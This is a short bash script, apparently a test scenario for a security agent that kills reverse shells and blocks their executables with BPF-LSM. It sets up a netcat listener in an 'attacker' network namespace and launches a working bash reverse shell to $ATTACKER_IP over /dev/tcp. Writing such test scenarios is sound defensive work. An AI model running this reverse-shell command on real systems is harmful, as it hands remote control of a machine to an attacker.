#!/usr/bin/env bash
# A reverse shell run by /tmp/victim (a copy of bash): the agent kills it and, because its
# executable is outside /usr and /bin, denies exec of that file with BPF-LSM.
set -u
[[ -e /tmp/victim ]] || cp /usr/bin/bash /tmp/victim
ip netns exec attacker bash -c "sleep 300 | nc -l 4444 >/dev/null 2>&1" &
for _ in $(seq 40); do
  ip netns exec attacker ss -ltn | grep -q ':4444 ' && break
  sleep 0.25
done
setsid /tmp/victim -c "/tmp/victim -i >& /dev/tcp/$ATTACKER_IP/4444 0>&1" </dev/null >/dev/null 2>&1 &
echo $! >"$STATE/shell.pid"
echo "pid $(cat "$STATE/shell.pid")"
